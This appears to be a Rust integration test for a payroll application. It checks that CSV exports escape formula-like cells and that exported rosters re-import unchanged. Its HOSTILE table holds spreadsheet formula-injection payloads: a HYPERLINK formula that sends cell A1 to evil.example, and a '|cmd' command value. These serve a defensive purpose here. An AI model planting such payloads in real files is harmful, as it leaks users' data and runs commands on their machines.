//! Files for spreadsheets: no cell of an export is a formula, and what was exported can be imported again.

use std::collections::BTreeMap;

use bole_domain::jobs::table::Format;
use bole_tests::{TestApp, both};

use crate::world::bureau::{Bureau, PEOPLE, ROSTER_ROWS};
use crate::world::walk::{entitled, operations, published};

/// What a spreadsheet would run or fetch, by the column of the roster that it comes in by.
const HOSTILE: [(&str, &str); 5] = [
    ("name", "=HYPERLINK(\"http://evil.example/?\"&A1,\"康辰\")"),
    ("address", "+SUM(1,2)"),
    ("post", "-2+3|cmd"),
    ("education", "@SUM(1)"),
    ("bank_name", "=1+1"),
];

fn quoted(cell: &str) -> String {
    format!("\"{}\"", cell.replace('"', "\"\""))
}

/// The sample's first people, with texts that are formulas.
fn hostile_roster() -> String {
    let mut lines = PEOPLE.lines();
    let header = lines.next().expect("a header");
    let at = |column: &str| header.split(',').position(|name| name == column).expect("the column");
    let mut roster = format!("{header}\n");
    for line in lines.take(ROSTER_ROWS) {
        let mut cells: Vec<String> = line.split(',').map(ToOwned::to_owned).collect();
        for (column, text) in HOSTILE {
            cells[at(column)] = quoted(text);
        }
        roster.push_str(&format!("{}\n", cells.join(",")));
    }
    roster
}

/// Every cell of a file.
fn cells(text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
    let rows = reader.records().map(|row| row.expect("a row"));
    rows.flat_map(|row| row.iter().map(ToOwned::to_owned).collect::<Vec<_>>()).collect()
}

/// Would a spreadsheet run it? A negative number is a number.
fn runs(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
}

async fn guards_every_export(app: &TestApp) {
    let bureau = Bureau::agreed_with(app, true, &hostile_roster()).await;
    let known = bureau.possessions().await;
    let (_, document) = published();
    let ops = operations(&document);
    let mut texts: BTreeMap<String, Vec<String>> = BTreeMap::new();
    // A document is given back byte for byte as somebody uploaded it: it is no export.
    let gives_csv = |op: &crate::world::walk::Operation| {
        op.id() != "download_document" && op.body["responses"]["200"]["content"]["text/csv"].is_object()
    };
    for (op, actor) in entitled(&ops, &bureau.agency).filter(|(op, _)| gives_csv(op)) {
        let path = op.path_with(&known);
        // Rejected rows are given to whoever sent them.
        let actor = if op.id() == "get_job_rejected_rows" { bureau.specialist.clone() } else { actor };
        let asked = match op.id() {
            "export_roster" => vec![path.clone(), format!("{path}?unmasked=true&reason=annual%20check")],
            _ => vec![path],
        };
        for path in asked {
            let file = actor.get(&path).await.expect(200);
            assert!(file.header("content-type").is_some_and(|media| media.starts_with("text/csv")), "{file}");
            let cells = cells(&file.body_text());
            let found: Vec<_> = cells.iter().filter(|cell| runs(cell)).collect();
            assert!(found.is_empty(), "{path}: {found:?}");
            texts.entry(op.id().to_owned()).or_default().extend(cells);
        }
    }
    let exports = [
        "download_payment_file",
        "export_audit_entries",
        "export_cycle_payslips",
        "export_roster",
        "export_wage_ledger",
        "get_attendance_days_import_template",
        "get_attendance_summaries_import_template",
        "get_cycle_inputs_import_template",
        "get_insurance_policies_import_template",
        "get_job_rejected_rows",
        "get_roster_import_template",
        "get_tax_deductions_import_template",
        "get_tax_filing_file",
        "get_tax_openings_import_template",
    ];
    assert_eq!(texts.keys().collect::<Vec<_>>(), exports, "every export was looked at");
    // The texts are there, each behind an apostrophe.
    let name = format!("'{}", HOSTILE[0].1);
    for export in ["export_roster", "download_payment_file", "get_tax_filing_file"] {
        assert!(texts[export].contains(&name), "{export}: {:?}", texts[export]);
    }
    for (column, text) in HOSTILE {
        assert!(texts["export_roster"].contains(&format!("'{text}")), "{column}");
    }
}

async fn imports_what_it_exported(app: &TestApp) {
    // An employee number may begin with a hyphen.
    let bureau = Bureau::agreed_with(app, true, &hostile_roster().replace("\nE00000", "\n-E00000")).await;
    let export = |engagement: &str| {
        format!("/api/v1/engagements/{engagement}/roster:export?unmasked=true&reason=annual%20check")
    };
    let first = bureau.specialist.get(&export(&bureau.engagement)).await.expect(200).body_text();
    let again = bole_tests::json!({ "client_id": bureau.client_id, "category": "payroll", "title": "薪酬代管" });
    let other = bureau.manager.post("/api/v1/engagements", again).await.expect(201).id();
    bureau.import(&format!("/api/v1/engagements/{other}/roster:import"), &first).await;
    assert_eq!(bureau.specialist.get(&export(&other)).await.expect(200).body_text(), first);
    // Each further format goes the same way, its numbers and days being those of the format.
    for format in [Format::Xlsx, Format::Ndjson] {
        let path = format!("{}&format={}", export(&bureau.engagement), format.extension());
        let file = bureau.specialist.get(&path).await.expect(200);
        assert_eq!(file.header("content-type").as_deref(), Some(format.media_type()));
        let third =
            bole_tests::json!({ "client_id": bureau.client_id, "category": "payroll", "title": format.extension() });
        let third = bureau.manager.post("/api/v1/engagements", third).await.expect(201).id();
        let import = format!("/api/v1/engagements/{third}/roster:import");
        let sent = bureau.specialist.request("POST".parse().expect("a method"), &import);
        let job = app.wait_job(&sent.raw(format.media_type(), file.body.to_vec()).await.expect(202)).await;
        assert_eq!(job.text("/state"), "succeeded", "{job}");
        assert_eq!(bureau.specialist.get(&export(&third)).await.expect(200).body_text(), first, "{format:?}");
    }
    let members = bureau.specialist.get(&format!("/api/v1/engagements/{other}/roster")).await.expect(200);
    assert_eq!(
        (members.text("/data/0/employee_number"), members.text("/data/0/person/name")),
        ("-E000001".into(), HOSTILE[0].1.into())
    );
}

both! {
    async fn no_cell_of_any_export_is_a_formula(app: TestApp) {
        guards_every_export(&app).await;
    }

    async fn an_exported_roster_is_imported_as_it_was(app: TestApp) {
        imports_what_it_exported(&app).await;
    }
}
